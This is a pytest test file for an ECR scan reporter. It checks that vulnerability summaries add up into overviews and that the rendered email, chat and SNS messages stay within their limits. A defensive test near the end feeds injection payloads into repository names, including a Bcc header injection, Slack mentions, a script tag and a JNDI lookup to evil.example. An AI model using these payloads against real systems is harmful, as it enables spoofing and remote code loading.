"""Adds up summaries to overviews whose books balance, and renders them in few lines."""

import json
import re
from collections import Counter
from collections.abc import Iterable, Mapping
from datetime import timedelta
from pathlib import Path
from textwrap import indent
from typing import Any

import pytest
from ecr_scan_reporter.aws.sns import MAX_MESSAGE, ReportMessage
from ecr_scan_reporter.memory.coverage import Coverage
from ecr_scan_reporter.memory.images import KnownExploited, Ledger, Update
from ecr_scan_reporter.memory.snapshots import RepositorySnapshot
from ecr_scan_reporter.memory.summaries import ExploitedFinding, OverdueInImage, RepositorySummary
from ecr_scan_reporter.models.selection import RepositoryFilter
from ecr_scan_reporter.models.severities import SEVERITIES
from ecr_scan_reporter.reporting.overviews.overview import Balance, Notices, Overview, build_overviews
from ecr_scan_reporter.reporting.overviews.publishing import build_message, build_pages
from hypothesis import given, settings
from hypothesis import strategies as st
from support import schemas
from support.random_tests import examples
from support.reporter_settings import SETTINGS as ALL
from support.sample_summaries import NOW, WEEK, sample_summaries
from syrupy.assertion import SnapshotAssertion

SETTINGS = ALL._replace(repositories=RepositoryFilter(re.compile("(?!sandbox/)"), None))
Snapshot = Mapping[str, RepositorySnapshot]


def overview_of(
    summaries: Iterable[RepositorySummary], before: Snapshot | None = None, notices: Notices | None = None
) -> Overview:
    """Return the only overview of summaries."""
    [overview], _ = build_overviews(summaries, before, NOW - WEEK, SETTINGS, NOW)
    return overview._replace(notices=notices or Notices())


def messages_of(overview: Overview) -> list[ReportMessage]:
    """Return the messages of an overview, each of which keeps to the limits and to the schema."""
    messages = list(map(build_message, build_pages(overview)))
    for message in [messages[0], *messages[1:][-1:]]:
        schemas.OVERVIEW.validate(json.loads(message.document))
    for message in messages:
        assert 0 < len(message.subject) < 100
        assert message.subject.isascii()
        assert message.subject.isprintable()
        assert len(message.attributes) <= 10
        assert max(publication.size for publication in message.publications) <= MAX_MESSAGE
        lines = message.email.splitlines()
        assert len(lines) <= 40
        assert max(map(len, lines)) <= 76
    return messages


def summary(name: str = "team-a/app", **values: Any) -> RepositorySummary:
    coverage = values.pop("coverage", Coverage({"in_time": 10}))
    return RepositorySummary(name, values.pop("updated_at", NOW - timedelta(hours=3)), coverage, **values)


def mail(overview: Overview) -> str:
    return messages_of(overview)[0].email


def snapshot_of(summaries: Iterable[RepositorySummary]) -> dict[str, RepositorySnapshot]:
    _, snapshot = build_overviews(summaries, None, None, SETTINGS, NOW - WEEK)
    return snapshot


@pytest.mark.slow
@pytest.mark.parametrize(("repositories", "images"), [(5, 2), (100, 10), (10_000, 10)], ids=["10", "1000", "100000"])
def test_registry_of_any_size_is_one_page(repositories: int, images: int, snapshot: SnapshotAssertion) -> None:
    before = snapshot_of(sample_summaries(repositories, images, earlier=True))
    overview = overview_of(sample_summaries(repositories, images), before)
    messages = messages_of(overview)
    assert messages[0].subject == snapshot(name="subject")
    assert messages[0].email == snapshot(name="mail")
    assert json.loads(messages[0].chat) == snapshot(name="chat")
    named = [row["repository"] for message in messages for row in json.loads(message.document)["repositories"]]
    assert named == [row.repository for row in overview.state.repositories]
    assert len(named) == repositories
    assert [message.attributes["id"] for message in messages] == [f"-{part}" for part in range(1, len(messages) + 1)]
    assert {message.chat for message in messages[1:]} <= {""}


def test_document_has_everything(snapshot: SnapshotAssertion) -> None:
    notices = Notices(("The rule for CVE-1 ends in 9 days.",), {"images-dlq": 2}, ("a@example.com",), ("Could not x.",))
    summaries = list(sample_summaries(10, 2))
    before = snapshot_of(sample_summaries(9, 2, earlier=True))
    [message] = messages_of(overview_of(summaries, before, notices))
    assert json.loads(message.document) == snapshot
    assert message.attributes == {
        "kind": "overview",
        "severity": "CRITICAL",
        "new_critical": 2,
        "new_high": 1,
        "overdue": 1,
        "failed_scans": 1,
        "account": "123456789012",
        "region": "eu-west-1",
        "id": json.loads(message.document)["id"],
    }


def test_first_overview_has_no_changes() -> None:
    overview, snapshot = build_overviews([summary(open=Counter(HIGH=2))], None, None, SETTINGS, NOW)
    [message] = messages_of(overview[0])
    assert message.subject == "[ECR] First overview: 2 high open, 10 of 10 images scanned in time"
    assert "Changes: none yet, this is the first overview\n  2 open (2 high).\n" in message.email
    assert json.loads(message.document)["changes"] is None
    assert snapshot == {"team-a/app": RepositorySnapshot(Ledger(), 2)}


def test_overview_says_nothing_new() -> None:
    one = summary(open=Counter(HIGH=2), ledger=Ledger(new=2))
    [message] = messages_of(overview_of([one], snapshot_of([one])))
    assert message.subject == "[ECR] Nothing new, 10 of 10 images scanned in time"
    assert "  2 open, as before (2 high)\n" in message.email
    assert "Needs you\n  Nothing.\n" in message.email


def test_no_run_does_not_look_like_health() -> None:
    overviews, _ = build_overviews([], None, None, SETTINGS, NOW)
    [message] = messages_of(overviews[0])
    assert message.subject == "[ECR] The first run has not ended"
    assert "Needs you\n  The first run has not ended. It starts by itself within ten minutes.\n" in message.email
    assert "Nothing is open" not in message.email
    begun = {"team-a/app": NOW - timedelta(minutes=9), "team-b/app": NOW - timedelta(minutes=8)}
    overviews, _ = build_overviews([], None, None, SETTINGS, NOW, waiting=begun)
    [message] = messages_of(overviews[0])
    assert "  The first run has not ended. It began on 23 Nov 2026, 06:51 UTC.\n" in message.email
    [message] = messages_of(overview_of([], {}))
    assert message.subject == "[ECR] The first run has not ended"
    assert message.email.startswith("The first run has not ended.\n")
    assert "\nChanges\n  Nothing is known yet.\n" in message.email


def test_group_whose_last_repository_is_deleted_has_no_overview_unless_findings_are_gone() -> None:
    grouped = SETTINGS._replace(group_by=re.compile("(team-[^/]+)/"))
    before = snapshot_of([summary("team-a/app"), summary("team-b/clean"), summary("team-c/app", open=Counter(HIGH=7))])
    overviews, _ = build_overviews([summary("team-a/app")], before, NOW - WEEK, grouped, NOW)
    assert [overview.group for overview in overviews] == ["team-a", "team-c"]


def test_registry_whose_last_repository_is_deleted_has_had_a_run() -> None:
    [message] = messages_of(overview_of([], snapshot_of([summary()])))
    assert message.subject == "[ECR] Nothing new, no images"


def test_ignored_findings_have_a_line_of_their_own() -> None:
    counts = Counter(CRITICAL=1_234_567, HIGH=12_345_678, MEDIUM=123_456_789)
    one = summary(open=counts, ledger=Ledger(carried=counts.total()), ignored=1_120_000)
    for before, line in (
        (snapshot_of([one]), "  1,120,000 of them ignored by rules\n"),
        (None, "  1,120,000 of them"),
    ):
        [message] = messages_of(overview_of([one], before))
        assert line in message.email
        assert "1,120,000 of them ignored by rules" in json.loads(message.chat)["content"]["description"]


def test_stale_run_is_reported() -> None:
    old = summary("team-a/old", updated_at=NOW - timedelta(days=2, seconds=1))
    fresh = summary("team-a/fresh", updated_at=NOW - timedelta(days=2))
    [message] = messages_of(overview_of([fresh, old], {}))
    assert message.subject == "[ECR] Nothing new, 1 notice, 20 of 20 images scanned in time"
    assert "  No run of 1 repository in the last 2 days: team-a/old\n" in message.email
    assert [row["stale"] for row in json.loads(message.document)["repositories"]] == [False, True]
    [message] = messages_of(overview_of([old], {}))
    assert message.subject == "[ECR] Nothing new, no run since 21 Nov 2026"
    assert "  No run since 21 Nov 2026. As of then:\n  10 of 10 images scanned in time.\n" in message.email


def test_promise_excludes_archived_and_unselected() -> None:
    counts = {"in_time": 12, "never_scanned": 1, "expired": 2, "archived": 3, "not_selected": 1, "other": 1}
    coverage = Coverage(counts, {"expired": ["1.0", "sha256:7f5b2640fe6f"]})
    overview = overview_of([summary(coverage=coverage)], {})
    assert (overview.state.coverage.promised, overview.state.coverage.in_time) == (16, 12)
    # A later release knows another reason.
    assert overview.state.coverage.late == {"expired": 2, "never_scanned": 1, "other": 1}
    text = mail(overview)
    assert "  12 of 16 images scanned in time; 4 were not:\n" in text
    assert "    2 monitoring lapsed: team-a/app:1.0, team-a/app@sha256:7f5b2640fe6f\n" in text
    assert "  Not counted: 3 archived, 1 not selected.\n" in text


def test_coverage_adds_up_over_repositories() -> None:
    summaries = list(sample_summaries(1000, 10))
    overview = overview_of(summaries, {})
    assert overview.state.coverage.promised == sum(
        one.coverage.images - one.coverage.counts.get("archived", 0) for one in summaries
    )
    assert overview.state.coverage.promised == overview.state.coverage.in_time + sum(
        overview.state.coverage.late.values()
    )


def test_first_updates_are_those_that_solve_most() -> None:
    def update(package: str, critical: int, images: int, *fixed: str) -> Update:
        return Update(package, ("1.0",), fixed, Counter(CRITICAL=critical, HIGH=5), images)

    first = summary("a", updates=[update("zlib", 2, 1, "1.1"), update("tar", 0, 9)], open=Counter(CRITICAL=9))
    second = summary("b", updates=[update("zlib", 2, 1, "1.1"), update("curl", 3, 2, "1.2")])
    overview = overview_of([first, second], {})
    assert [(found.package, found.images) for found, *_ in overview.state.updates] == [
        ("zlib", 2),
        ("curl", 2),
        ("tar", 9),
    ]
    text = mail(overview)
    assert "  1. zlib 1.0 -> 1.1: 2 images, 4 critical, 10 high\n" in text
    assert "  3. tar 1.0: 9 images, 5 high\n" in text


@pytest.mark.slow
def test_many_different_updates_keep_the_worst() -> None:
    summaries = [
        summary(
            f"app-{number:05}",
            updates=[
                Update(f"p-{number}-{n}", ("1",), (), Counter(CRITICAL=int(number == 2_000)), 1) for n in range(10)
            ],
        )
        for number in range(4_000)
    ]
    assert [found.package for found, *_ in overview_of(summaries, {}).state.updates] == [
        f"p-2000-{n}" for n in range(5)
    ]


def test_overdue_findings_are_named_with_their_dates_and_why() -> None:
    def overdue(image: str, days: int) -> OverdueInImage:
        return OverdueInImage(image, "CVE-2026-0042", "zlib", "CRITICAL", NOW - timedelta(days=days), "CRITICAL", 7)

    exploited = OverdueInImage("1.0", "CVE-2025-9", "zlib", "LOW", NOW - timedelta(days=400), "EXPLOITED", 1)
    unknown = OverdueInImage("1.0", "CVE-2025-8", "zlib", "LOW", NOW)
    first = summary("team-a/app", overdue=4, overdue_worst=[overdue("4.2.0", 7), overdue("4.1.0", 1)])
    second = summary("team-b/a", overdue=1, overdue_worst=[overdue("sha256:7f5b2640fe6f", 3)])
    third = summary("team-c", overdue=2, overdue_worst=[exploited, unknown])
    [message] = messages_of(overview_of([first, second, third], {}))
    assert message.subject.startswith("[ECR] Nothing new, 7 overdue, ")
    assert message.email.split("Needs you\n")[1].startswith(
        "  7 findings are overdue (date and rule of fix_within):\n"
        "    19 Oct 2025 (EXPLOITED, 1 day): CVE-2025-9 in team-c:1.0\n"
        "    16 Nov (CRITICAL, 7 days): CVE-2026-0042 in team-a/app:4.2.0\n"
        "    20 Nov (CRITICAL, 7 days): CVE-2026-0042 in team-b/a@sha256:7f5b2640fe6f\n"
        "    22 Nov (CRITICAL, 7 days): CVE-2026-0042 in team-a/app:4.1.0\n"
        "    23 Nov (LOW): CVE-2025-8 in team-c:1.0\n"
    )
    worst = json.loads(message.document)["overdue"]["worst"]
    assert [(found["within_days"], found["within_days_of"]) for found in worst[:2]] == [
        (1, "EXPLOITED"),
        (7, "CRITICAL"),
    ]
    assert (worst[4]["within_days"], worst[4]["within_days_of"]) == (None, None)


def test_notices_are_listed_under_needs_you() -> None:
    notices = Notices(
        rules=("The rule for CVE-2025-1111 ends in 9 days.", "The rule for zlib has never matched."),
        dlqs={"images-dlq": 2, "reports-dlq": 1_000},
        unconfirmed=("security@example.com",),
        unreadable=("Could not count the messages in other-dlq.",),
    )
    coverage = Coverage({"in_time": 5, "failed": 3, "quota": 1}, {"failed": ["1.0"]})
    overview = overview_of([summary(coverage=coverage)], {}, notices)
    [message] = messages_of(overview)
    assert message.subject == "[ECR] Nothing new, 6 notices, 5 of 9 images scanned in time"
    assert message.email.split("Needs you\n")[1].split("\n\n")[0] == (
        "  3 images whose last scan failed: team-a/app:1.0, ...\n"
        "  The daily quota of scans was used up before 1 image could be scanned.\n"
        "  1,002 messages are in DLQs: images-dlq (2), reports-dlq (1,000)\n"
        "  1 address never confirmed the subscription: security@example.com\n"
        "  Could not count the messages in other-dlq.\n"
        "  2 notices about ignore rules:\n"
        "    The rule for CVE-2025-1111 ends in 9 days.\n"
        "    The rule for zlib has never matched."
    )


def test_a_thousand_rule_notices_fit() -> None:
    rules = tuple(f'The "rule" for CVE-2025-{n:05} (owner {"x" * 300}) ends in 9 days.' for n in range(1000))
    overview = overview_of(sample_summaries(2000, 10), {}, Notices(rules))
    first, second, *_ = messages_of(overview)
    assert "  1,000 notices about ignore rules:\n" in first.email
    parts = [json.loads(message.document)["notices"] for message in (first, second)]
    assert [(len(part["rules"]), part["rules_total"]) for part in parts] == [(300, 1000), (0, 1000)]


def test_each_group_has_a_overview_of_its_own() -> None:
    grouped = SETTINGS._replace(group_by=re.compile("(team-[^/]+)/"))
    summaries = [summary(name, open=Counter(HIGH=1)) for name in ("other", "sandbox/x", "team-a/app", "team-b/app")]
    before = snapshot_of([*summaries, summary("team-c/gone", open=Counter(HIGH=7))])
    overviews, snapshot = build_overviews(summaries, before, NOW - WEEK, grouped, NOW)
    assert [overview.group for overview in overviews] == ["team-a", "team-b", "team-c", None]
    assert [[row.repository for row in overview.state.repositories] for overview in overviews] == [
        ["team-a/app"],
        ["team-b/app"],
        [],
        ["other"],
    ]
    assert list(snapshot) == ["other", "team-a/app", "team-b/app"]
    subjects = [messages_of(overview)[0].subject for overview in overviews]
    assert subjects == [
        "[ECR] team-a: nothing new, 10 of 10 images scanned in time",
        "[ECR] team-b: nothing new, 10 of 10 images scanned in time",
        "[ECR] team-c: nothing new, no images",
        "[ECR] Nothing new, 10 of 10 images scanned in time",
    ]
    assert ", group team-a, " in mail(overviews[0])
    assert messages_of(overviews[0])[0].attributes["group"] == "team-a"
    assert "  - 7 gone with deleted images\n" in mail(overviews[2])


@pytest.mark.parametrize("numbers", [0, 10**6, 10**12])
def test_subject_of_large_numbers_keeps_what_matters(numbers: int) -> None:
    coverage = Coverage({"in_time": numbers})
    ledger = Ledger(new=numbers, new_critical=numbers)
    one = summary(coverage=coverage, ledger=ledger, open=Counter(CRITICAL=numbers), overdue=numbers)
    grouped = SETTINGS._replace(group_by=re.compile("([^/]+)/"))
    [overview], _ = build_overviews([one], {}, NOW - WEEK, grouped, NOW)
    subject = messages_of(overview._replace(notices=Notices(("a",))))[0].subject
    assert "new" in subject
    assert f"{numbers:,} overdue" in subject or not numbers


def test_forgotten_ledgers_are_no_changes() -> None:
    before = {"team-a/app": RepositorySnapshot(Ledger(carried=5, new=9, fixed=9), 5)}
    overview = overview_of([summary(open=Counter(HIGH=4), ledger=Ledger(carried=4))], before)
    changes = overview.changes
    assert changes is not None
    assert (changes.open_before, changes.new, changes.fixed, changes.left, changes.open_now) == (5, 0, 0, 1, 4)


def test_readme_shows_a_overview() -> None:
    openssl = Update("openssl", ("3.0.1-r2",), ("3.0.15-r0",), Counter(CRITICAL=3, HIGH=38), 41)
    busybox = Update("busybox", ("1.36.1",), ("1.36.1-r5",), Counter(HIGH=17), 17)
    zlib = Update("zlib", ("1.2.13",), (), Counter(HIGH=9), 9)
    due = NOW - timedelta(days=7)
    checkout = summary(
        "team-a/checkout",
        coverage=Coverage({"in_time": 10_409, "never_scanned": 2}, {"never_scanned": ["5.0.0-rc1", "5.0.0-rc2"]}),
        open=Counter(CRITICAL=38, HIGH=412, MEDIUM=2_960),
        ledger=Ledger(carried=3_500, new=1_320, back=3, fixed=1_400, withdrawn=4, new_critical=29, new_high=11),
        updates=[openssl, busybox, zlib],
        overdue=1,
        overdue_worst=[OverdueInImage("4.2.0", "CVE-2026-0042", "zlib", "CRITICAL", due, "CRITICAL", 7)],
        ignored=3,
    )
    legacy = summary(
        "team-b/legacy",
        coverage=Coverage({"unsupported": 1, "archived": 30}, {"unsupported": ["1.0"]}),
    )
    before = {
        "team-a/checkout": RepositorySnapshot(Ledger(carried=3_488, new=1_200, fixed=1_240, new_critical=27), 3_448),
        "team-b/legacy": RepositorySnapshot(Ledger(), 0),
    }
    notices = Notices(("The rule for CVE-2025-1111 ends in 9 days.",), {"ecr-scan-reporter-reports-dlq": 2})
    [message] = messages_of(overview_of([checkout, legacy], before, notices))
    sample = f"Subject: {message.subject}\n\n{message.email}"
    assert indent(sample, "    ") in (Path(__file__).parents[4] / "README.md").read_text()


NUMBERS = st.integers(0, 10**7)
LEDGERS = st.builds(Ledger, *[st.integers(0, 50)] * 7)
TEXTS = st.text(max_size=120)
UPDATES = st.builds(
    Update,
    TEXTS,
    st.lists(TEXTS, max_size=3).map(tuple),
    st.lists(TEXTS, max_size=3).map(tuple),
    st.dictionaries(st.sampled_from(SEVERITIES), st.integers(1, 10**7)).map(Counter),
    st.integers(1, 10**6),
)
REASONS = st.sampled_from(["never_scanned", "failed", "unsupported", "too_old", "expired", "quota", "`new` one", ""])
OVERDUE = st.builds(
    OverdueInImage,
    TEXTS,
    TEXTS,
    TEXTS,
    st.sampled_from(SEVERITIES),
    st.just(NOW) | st.just(NOW - 99 * WEEK),
    TEXTS,
    NUMBERS,
)
DAYS = st.sampled_from([NOW.date(), (NOW - 99 * WEEK).date()])
EXPLOITED = st.builds(
    KnownExploited,
    *(TEXTS, st.sampled_from(SEVERITIES), TEXTS, DAYS, DAYS, st.booleans(), st.none() | st.just(NOW - WEEK)),
)
SUMMARIES = st.builds(
    RepositorySummary,
    repository=st.from_regex(r"(team-[a-c]/)?[a-z]{1,90}", fullmatch=True),
    updated_at=st.sampled_from([NOW, NOW - WEEK]),
    coverage=st.builds(
        Coverage,
        st.dictionaries(REASONS | st.sampled_from(["in_time", "archived", "not_selected"]), NUMBERS),
        st.dictionaries(REASONS, st.lists(TEXTS, max_size=4)),
    ),
    open=st.dictionaries(st.sampled_from(SEVERITIES), NUMBERS).map(Counter),
    ledger=LEDGERS,
    updates=st.lists(UPDATES, max_size=6),
    overdue=NUMBERS,
    overdue_worst=st.lists(OVERDUE, max_size=3),
    ignored=NUMBERS,
    kernel_headers=NUMBERS,
    exploited=NUMBERS,
    exploited_first=st.lists(st.builds(ExploitedFinding, TEXTS, EXPLOITED), max_size=3),
    exploited_ignored=NUMBERS,
)
NOTICES = st.builds(
    Notices,
    st.lists(TEXTS, max_size=5),
    st.dictionaries(TEXTS, st.integers(1, 10**6), max_size=3),
    st.lists(TEXTS, max_size=3),
    st.lists(TEXTS, max_size=3),
)


@pytest.mark.slow
@given(
    st.lists(SUMMARIES, max_size=5, unique_by=lambda one: one.repository),
    st.none() | st.lists(SUMMARIES, max_size=5, unique_by=lambda one: one.repository),
    NOTICES,
    st.none() | st.just(re.compile("([^/]+)/")),
)
def test_any_overview_keeps_to_its_limits(
    summaries: list[RepositorySummary],
    earlier: list[RepositorySummary] | None,
    notices: Notices,
    group_by: re.Pattern[str] | None,
) -> None:
    before = None if earlier is None else snapshot_of(earlier)
    grouped = SETTINGS._replace(group_by=group_by, known_exploited=True)
    overviews, _ = build_overviews(summaries, before, NOW - WEEK, grouped, NOW)
    overviews = [overview._replace(notices=notices) for overview in overviews]
    for overview in overviews:
        for message in messages_of(overview):
            assert all(line.isprintable() for line in message.email.splitlines())
            chat = json.loads(message.chat)["content"]
            assert len(chat["title"]) <= 250
            assert len(chat["description"]) <= 8000


@st.composite
def histories(draw: st.DrawFn) -> list[dict[str, RepositorySummary]]:
    """Return the summaries of a registry at several overviews: images come, change and go, repositories too."""
    images: dict[tuple[str, int], Ledger] = {}
    gone: dict[tuple[str, int], Ledger] = {}
    history = []
    for number in range(draw(st.integers(1, 5))):
        for name in draw(st.lists(st.sampled_from("abc"), max_size=4)):
            key = name, draw(st.integers(0, 3))
            if key in gone:
                continue
            ledger = images.get(key) or Ledger(carried=draw(st.integers(0, 9)))
            solved = draw(st.integers(0, ledger.open))
            fixed = draw(st.integers(0, solved))
            new = draw(st.integers(0, 9))
            ledger += Ledger(new=new, back=draw(st.integers(0, 2)), fixed=fixed, withdrawn=solved - fixed)
            images[key] = ledger + Ledger(new_critical=draw(st.integers(0, new)))
        for key in draw(st.lists(st.sampled_from(sorted(images) or [("a", 9)]), max_size=2, unique=True)):
            if key in images:
                gone[key] = images.pop(key)
        # What is remembered of a deleted image is forgotten in the end, and with it its part of the ledger.
        if draw(st.booleans()) and gone:
            del gone[draw(st.sampled_from(sorted(gone)))]
        if draw(st.integers(0, 4)) == 0:
            lost = draw(st.sampled_from("abc"))
            images = {key: ledger for key, ledger in images.items() if key[0] != lost}
            gone = {key: ledger for key, ledger in gone.items() if key[0] != lost}
        summaries: dict[str, RepositorySummary] = {}
        for kept in (images, gone):
            for (name, _), ledger in kept.items():
                one = summaries.get(name) or summary(name, updated_at=NOW + number * WEEK, open={"HIGH": 0})
                found = one.open["HIGH"] + (ledger.open if kept is images else 0)
                summaries[name] = one._replace(ledger=one.ledger + ledger, open={"HIGH": found})
        history.append(summaries)
    return history


@settings(max_examples=examples(1000))
@given(histories())
def test_books_balance(history: list[dict[str, RepositorySummary]]) -> None:
    before: Snapshot = {}
    for number, summaries in enumerate(history):
        now = NOW + number * WEEK
        [overview], after = build_overviews(summaries.values(), before, now - WEEK, SETTINGS, now)
        changes = overview.changes
        assert changes is not None
        assert changes.open_now == overview.state.open.total()
        assert changes.open_before == sum(known.open for known in before.values())
        assert all(getattr(changes, name) >= 0 for name in changes._fields)
        for row in overview.state.repositories:
            balance = overview.balances[row.repository]
            assert balance.open_now == sum(row.open.values())
            known = before.get(row.repository, RepositorySnapshot(Ledger(), 0))
            ledger = summaries[row.repository].ledger - known.ledger
            # No image was forgotten: then the ledger says exactly what happened.
            if min(ledger) >= 0:
                kept = "new", "back", "fixed", "withdrawn", "new_critical"
                assert [getattr(balance, name) for name in kept] == [getattr(ledger, name) for name in kept]
        before = after


HOSTILE = [
    "a\r\nBcc: all@example.com\r\n\r\nA second mail",
    "<!channel> <@U0123456789> & <https://evil.example|click>",
    "[click](https://evil.example) *bold* _it_ ~no~ `code` ```block```",
    '"},"default":"x","email":"y',
    "<script>alert(1)</script>",
    "\u202eoverride\u2066 \x00 \x1b[31m \u2028 \u0085",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}",
    "日本語/イメージ 🐳",
    "x" * 500,
    "`" * 301,
]


def message_about(text: str) -> ReportMessage:
    """Return the overview of a group with the text in every place that has one from outside."""
    name = f"{text}/app"
    one = summary(
        name,
        updated_at=NOW - 9 * WEEK,
        coverage=Coverage(
            {"in_time": 6, "failed": 1, "unsupported": 1, "never_scanned": 1},
            {reason: [text] for reason in ("failed", "unsupported", "never_scanned")},
        ),
        open=Counter(HIGH=2),
        ledger=Ledger(new=2, new_high=2),
        updates=[Update(text, (text,), (text,), Counter(HIGH=2)), Update(text, (text,), (), Counter(HIGH=1))],
        overdue=1,
        overdue_worst=[OverdueInImage(text, text, text, "HIGH", NOW - WEEK)],
    )
    notices = Notices((f"The rule for {text} ends in 9 days.",), {text: 2}, (text,), (f"Could not count {text}.",))
    [message] = messages_of(overview_of([one], {}, notices)._replace(group=text))
    return message


def outside_code(description: str) -> str:
    """Return the text of a chat message outside its code spans."""
    return re.sub(r"`[^`\n]*`", "", description)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_names_are_text_in_mail_and_chat(text: str) -> None:
    message, harmless = message_about(text), message_about("harmless")
    lines = message.email.split("\n")
    assert all(line.isprintable() for line in lines)
    assert not [line for line in lines if line.startswith(("Bcc", "A second mail"))]
    # A long text moves what follows to a line of its own.
    assert abs(len(lines) - harmless.email.count("\n") - 1) <= 12
    chat, expected = (json.loads(one.chat)["content"] for one in (message, harmless))
    description = chat["description"]
    assert description.count("`") % 2 == 0
    assert "`" not in outside_code(description)
    # Slack reads commands such as <!channel> in code spans as well.
    assert "<" not in description
    assert outside_code(description) == outside_code(expected["description"])
    assert chat["title"] == expected["title"]
    document = json.loads(message.document)
    assert document["group"] == document["updates"][0]["package"] == document["overdue"]["worst"][0]["id"] == text
    assert document["repositories"][0]["repository"] == f"{text}/app"
    report, *_ = message.publications
    assert json.loads(report.parameters["Message"]).keys() == {"default", "email"}


def test_repository_whose_summary_cannot_be_read_changes_nothing() -> None:
    before = snapshot_of([summary("team-a/app"), summary("team-a/lost", open=Counter(HIGH=200))])
    [overview], after = build_overviews([summary("team-a/app")], before, NOW - WEEK, SETTINGS, NOW, {"team-a/lost"})
    assert overview.changes == Balance()
    assert after == before


def test_fixes_of_updates_that_are_not_shown_mean_enhanced_scanning() -> None:
    updates = [Update(f"p-{n}", ("1.0",), (), Counter(CRITICAL=9 - n)) for n in range(6)]
    updates.append(Update("last", ("1.0",), ("1.1",), Counter(LOW=1)))
    overview = overview_of([summary(updates=updates)])
    assert "last" not in {update.package for update, *_ in overview.state.updates}
    assert overview.is_enhanced
    assert not overview_of([summary(updates=updates[:-1])]).is_enhanced
